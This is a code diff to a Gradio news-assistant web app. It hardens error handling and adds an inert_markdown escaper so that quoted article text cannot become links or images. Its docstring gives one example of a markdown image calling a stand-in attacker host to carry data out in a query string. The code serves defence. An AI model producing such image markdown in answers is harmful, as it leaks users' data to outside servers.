@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import dataclasses
 import logging
+import re
 import shutil
 import threading
 from collections.abc import Iterator
@@ -12,7 +14,7 @@ from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 from assistant import ui_render as render
-from assistant.errors import AssistantError, QuestionError
+from assistant.errors import AssistantError, QuestionError, as_user_error, one_line
 from assistant.settings import Settings, UISettings
 from assistant.types import Answer, Citation
 
@@ -126,13 +128,16 @@ def build_app(assistant: Assistant) -> gr.Blocks:
             session = ChatSession(assistant.conversation())
         shown = " ".join(question.split())
         if shown:
-            history.append({"role": "user", "content": escape(render.shorten(shown, 2000), quote=False)})
+            history.append(
+                {"role": "user", "content": escape(inert_markdown(render.shorten(shown, 2000)), quote=False)}
+            )
         history.append({"role": "assistant", "content": SEARCHING})
         panel = render.sources_panel(None, None, note=CLICK_HINT)
         yield "", history, session, render.citation_bar(None), panel
 
         def failed(message: str, keep_question: bool) -> tuple[Any, ...]:
-            history[-1] = {"role": "assistant", "content": render.error_markdown(message)}
+            message = one_line(message)
+            history[-1] = {"role": "assistant", "content": render.error_markdown(inert_markdown(message))}
             box = question if keep_question else ""
             return box, history, session, render.citation_bar(None, error=message), panel
 
@@ -151,7 +156,7 @@ def build_app(assistant: Assistant) -> gr.Blocks:
                     break
                 if event.delta:
                     text += event.delta
-                    history[-1] = {"role": "assistant", "content": escape(text, quote=False) + " ▌"}
+                    history[-1] = {"role": "assistant", "content": escape(inert_markdown(text), quote=False) + " ▌"}
                     yield "", history, session, render.citation_bar(None), panel
         except QuestionError as err:
             yield failed(str(err), keep_question=True)
@@ -161,13 +166,14 @@ def build_app(assistant: Assistant) -> gr.Blocks:
             return
         except Exception as err:  # a bug or an unexpected library error: one line for the user, trace in the log
             log.exception("chat turn failed")
-            yield failed(f"Something went wrong while answering: {err}", keep_question=False)
+            yield failed(str(as_user_error(err)), keep_question=False)
             return
         if answer is None:
             yield failed("The engine produced no answer.", keep_question=False)
             return
         session.remember(answer)
-        history[-1] = {"role": "assistant", "content": render.chat_markdown(answer)}
+        shown_answer = dataclasses.replace(answer, text=inert_markdown(answer.text))
+        history[-1] = {"role": "assistant", "content": render.chat_markdown(shown_answer)}
         note = CLICK_HINT if answer.citations else "The articles do not answer this; the closest passages follow."
         panel = render.sources_panel(None, None, answer.passages, note=note)
         yield "", history, session, render.citation_bar(answer), panel
@@ -183,8 +189,9 @@ def build_app(assistant: Assistant) -> gr.Blocks:
         citation, answer = session.citations[number]
         try:
             article = assistant.get_article(citation.doc_id)
-        except AssistantError as err:
-            return render.message_html(str(err), error=True) + render.sources_panel(citation, None, answer.passages)
+        except Exception as err:
+            message = _user_message(err, "showing a citation")
+            return render.message_html(message, error=True) + render.sources_panel(citation, None, answer.passages)
         return render.sources_panel(citation, article, answer.passages)
 
     # Gradio finds EventData by type hint; the postponed annotation cannot see the lazily imported module.
@@ -198,18 +205,23 @@ def build_app(assistant: Assistant) -> gr.Blocks:
         try:
             filters = render.date_filters(published_from, published_to)
             return assistant.ask(question, top_k=_int_or_none(top_k), filters=filters or None).to_dict()
-        except (AssistantError, ValueError) as err:
-            raise gr.Error(str(err)) from None
+        except ValueError as err:  # a malformed date filter
+            raise gr.Error(one_line(str(err))) from None
+        except Exception as err:
+            raise gr.Error(_user_message(err, "answering")) from None
 
     def show_stats() -> str:
         try:
             return render.stats_html(assistant.stats())
-        except AssistantError as err:
-            return render.message_html(str(err), error=True)
+        except Exception as err:
+            return render.message_html(_user_message(err, "reading the statistics"), error=True)
 
     def ingest_files(files: list[Any] | None, progress: gr.Progress = gr.Progress()) -> tuple[str, str]:  # noqa: B008
         """Copy uploads into the data dir and ingest them; one error line per file that failed."""
-        paths = _stage_uploads(files or [], settings.data_dir / "uploads")
+        try:
+            paths = _stage_uploads(files or [], settings.data_dir / "uploads")
+        except Exception as err:  # disk full, permissions: say so, keep the app running
+            return render.message_html(_user_message(err, "saving the uploads"), error=True), show_stats()
         if not paths:
             return render.message_html("Choose one or more .md, .txt, .html, .pdf or .jsonl files first."), show_stats()
 
@@ -219,12 +231,17 @@ def build_app(assistant: Assistant) -> gr.Blocks:
 
         try:
             report = assistant.ingest(paths, progress=report_progress)
-        except AssistantError as err:
-            return render.message_html(str(err), error=True), show_stats()
+        except Exception as err:
+            return render.message_html(_user_message(err, "ingesting"), error=True), show_stats()
         return render.ingest_html(report), show_stats()
 
     with gr.Blocks(title="News assistant", analytics_enabled=False) as demo:
         gr.Markdown("## Ask the news articles\nAnswers cite the sentence they come from: click a citation to check it.")
+        if described.get("problem"):
+            gr.Markdown(
+                f"⚠️ {escape(inert_markdown(described['problem']), quote=False)} Answers quote the articles instead.",
+                elem_id="model-problem",
+            )
         with gr.Tab("Chat"):
             session = gr.State(None)
             with gr.Row(equal_height=False):
@@ -235,6 +252,7 @@ def build_app(assistant: Assistant) -> gr.Blocks:
                         height=420,
                         feedback_options=None,
                         buttons=["copy", "copy_all"],
+                        latex_delimiters=[],  # article text is never typeset: no KaTeX \href from a quote
                     )
                     citations = gr.HTML(render.citation_bar(None), elem_id="citations", js_on_load=CITATIONS_JS)
                     with gr.Row():
@@ -332,6 +350,9 @@ def serve(
 
         assistant = Assistant(settings)
     warm_up_in_background(assistant)
+    problem = assistant.check_llm()  # say at once when the model cannot be loaded
+    if problem:
+        log.warning("%s Answering by quoting the articles (status: fallback).", problem)
     launch_app(build_app(assistant), settings or assistant.settings, host=host, port=port)
 
 
@@ -380,6 +401,39 @@ def _stage_uploads(files: list[Any], folder: Path) -> list[Path]:
         shutil.copyfile(source, target)
         staged.append(target)
     return staged
+
+
+def _user_message(err: Exception, doing: str) -> str:
+    """One line for the reader; a fault that is not a user error also goes to the log with its trace."""
+    if not isinstance(err, AssistantError):
+        log.exception("failed while %s", doing)
+    return one_line(str(as_user_error(err)))
+
+
+_MARKER = re.compile(r"\[(\d+)\]")
+_LINK_PUNCTUATION = re.compile(r"[\[\]]|(?<=[A-Za-z])://|(?<=\bwww)\.|@")
+
+
+def inert_markdown(text: str) -> str:
+    """Text the chat's markdown renderer shows as written: no link, image or autolinked URL can come out of it.
+
+    Answers quote articles, and an article may carry ``![x](https://evil.example/?q=...)`` or a bare URL; the
+    chat renders markdown, so those would fetch or link an outside address. Brackets (other than the ``[n]``
+    citation markers), ``://``, ``www.`` and ``@`` are backslash-escaped (shown unchanged, never linked), and
+    line breaks are folded so no reference definition (``[1]: https://...``) can start a line.
+    """
+    pieces = []
+    last = 0
+    for match in _MARKER.finditer(text):
+        pieces.append(_escape_links(text[last : match.start()]))
+        pieces.append(match.group(0))
+        last = match.end()
+    pieces.append(_escape_links(text[last:]))
+    return " ".join("".join(pieces).split())
+
+
+def _escape_links(text: str) -> str:
+    return _LINK_PUNCTUATION.sub(lambda m: "".join("\\" + ch if ch in "[]:@." else ch for ch in m.group(0)), text)
 
 
 def _describe_markdown(described: dict[str, str]) -> str:
